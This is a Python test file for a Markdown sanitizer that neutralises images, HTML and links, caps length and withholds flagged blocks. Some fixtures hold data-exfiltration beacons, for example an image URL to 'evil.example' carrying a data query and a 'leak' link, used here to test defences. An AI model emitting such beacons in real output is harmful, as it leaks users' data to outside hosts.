"""safe_markdown: neutralized images, HTML, comments and links, as a data table."""

from __future__ import annotations

import tomllib
import urllib.parse
from pathlib import Path
from typing import Any

import pytest

from pagewarden._safe import LINKS_HEADING, safe_markdown
from pagewarden._safe.render import render_units, withheld_marker

CASES: list[dict[str, Any]] = tomllib.loads((Path(__file__).parent / "vectors.toml").read_text("utf-8"))["case"]
BASE = "https://site.example/page"


def link_filter(href: str) -> str | None:
    """Accept http(s) links resolved against BASE, except to refused.example."""
    absolute = urllib.parse.urljoin(BASE, href)
    parts = urllib.parse.urlsplit(absolute)
    if parts.scheme not in ("http", "https") or parts.hostname == "refused.example":
        return None
    return absolute


def reparsed_link_count(markdown: str) -> int:
    """How many links, images and HTML nodes a Markdown parser finds in ``markdown``."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
    count = 0
    for token in tokens:
        count += token.type in ("html_block",)
        for child in token.children or []:
            count += child.type in ("link_open", "image", "html_inline")
    return count


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_vector(case: dict[str, Any]) -> None:
    """Each vector's required text is present, its forbidden text absent, and its links listed exactly."""
    result = safe_markdown(case["source"], link_filter=link_filter)
    for needle in case.get("contains", []):
        assert needle in result.markdown, needle
    for needle in case.get("absent", []):
        assert needle not in result.markdown, needle
    assert list(result.links) == case.get("links", [])
    assert (LINKS_HEADING in result.markdown) == bool(case.get("links"))


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_output_has_no_live_syntax(case: dict[str, Any]) -> None:
    """Re-parsing the safe body finds no link, image or HTML node (code blocks aside)."""
    result = safe_markdown(case["source"], link_filter=lambda href: None)
    assert reparsed_link_count(result.markdown) == 0


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_rendering_is_stable(case: dict[str, Any]) -> None:
    """Rendering safe output again changes nothing: the escapes read back as the same text."""
    once = safe_markdown(case["source"], link_filter=lambda href: None).markdown
    assert safe_markdown(once, link_filter=lambda href: None).markdown == once


def test_links_are_capped() -> None:
    """At most max_links links are listed, in order of first appearance."""
    source = " ".join(f"[l{i}](https://site.example/{i})" for i in range(10))
    result = safe_markdown(source, link_filter=link_filter, max_links=3)
    assert result.links == ("https://site.example/0", "https://site.example/1", "https://site.example/2")


def test_a_raising_link_filter_refuses() -> None:
    """A link filter that raises refuses the link instead of listing it unchecked."""

    def broken(href: str) -> str | None:
        raise ValueError("boom")

    result = safe_markdown("[x](https://site.example/)", link_filter=broken)
    assert result.links == ()
    assert LINKS_HEADING not in result.markdown


LONG = "\n\n".join(
    [f"Paragraph {i} has [a link {i}](https://site.example/{i}) and a few more plain words here." for i in range(40)]
    + ["```\n" + "code line\n" * 50 + "```"]
)


@pytest.mark.parametrize("limit", [200, 500, 1_000, 3_000, 20_000])
def test_max_characters_bounds_everything(limit: int) -> None:
    """With max_characters the whole result fits, code fences stay closed, and only kept links are listed."""
    result = safe_markdown(LONG, link_filter=link_filter, max_characters=limit)
    assert len(result.markdown) <= limit
    assert result.markdown.count("```") % 2 == 0
    for link in result.links:
        number = link.rsplit("/", 1)[1]
        assert f"a link {number}" in result.markdown
    assert result.truncated == (len(safe_markdown(LONG, link_filter=link_filter).markdown) > limit)
    assert len(result.all_links) == 40


def test_oversized_first_code_block_is_cut_and_closed() -> None:
    """A single code block larger than the limit is cut and still closed by its fence."""
    result = safe_markdown("```\n" + "x = 1\n" * 500 + "```", link_filter=link_filter, max_characters=300)
    assert result.truncated
    assert 0 < len(result.markdown) <= 300
    assert result.markdown.startswith("```") and result.markdown.endswith("```")


def test_block_filter_withholds_blocks_and_their_links() -> None:
    """A block the filter objects to becomes a marker and its links are not listed."""
    source = "Fine [ok](https://site.example/ok).\n\nBad [beacon](https://site.example/leak?d=1) here."

    def block_filter(text: str) -> str | None:
        return "exfiltration_beacon" if "leak" in text else None

    result = safe_markdown(source, link_filter=link_filter, block_filter=block_filter)
    assert withheld_marker("exfiltration_beacon") in result.markdown
    assert "beacon" not in result.markdown.replace("exfiltration_beacon", "")
    assert result.links == ("https://site.example/ok",)
    assert result.all_links == ("https://site.example/ok",)
    assert result.withheld == ("exfiltration_beacon",)


def test_block_filter_sees_image_sources() -> None:
    """The filter receives image destinations, so a data-carrying image can be withheld though never shown."""
    seen: list[str] = []

    def block_filter(text: str) -> str | None:
        seen.append(text)
        return None

    render_units("![x](https://evil.example/?q=data)", block_filter)
    assert any("https://evil.example/?q=data" in text for text in seen)


def test_top_level_list_items_are_separate_units() -> None:
    """A top-level list yields one unit per item so a cut can fall between items."""
    units = render_units("- a\n- b\n- c")
    assert [u.text for u in units] == ["- a", "- b", "- c"]
    assert [u.separator for u in units] == ["\n\n", "\n", "\n"]


# The escapes as first written: a character class and lookbehinds before the character, and one line at a time.
_SPECIAL_AS_WRITTEN = (
    r"[\\`*\[\]]|(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])|<(?=[A-Za-z/!?])|&(?=#?[A-Za-z0-9]{1,32};)|~(?=~)|(?<=~)~"
)


def test_escapes_equal_their_line_by_line_definition() -> None:
    """escape_text and plain_text_markdown give what the per-line, character-class form gives, on random text."""
    import random
    import re

    from pagewarden._safe.render import _escape_line_starts, escape_text, plain_text_markdown

    special = re.compile(_SPECIAL_AS_WRITTEN)
    alphabet = [*"ab1Z9é_~&#;<>/!?*[]`\\-=+|.) \t\r\n\x0b\u2028\u0085", "\n", "  ", "&amp;", "~~", "__"]
    rng = random.Random(16)
    for _ in range(20_000):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 24)))
        assert escape_text(text) == special.sub(r"\\\g<0>", text)
        by_line = "\n".join(_escape_line_starts(special.sub(r"\\\g<0>", line.strip())) for line in text.split("\n"))
        assert plain_text_markdown(text) == by_line
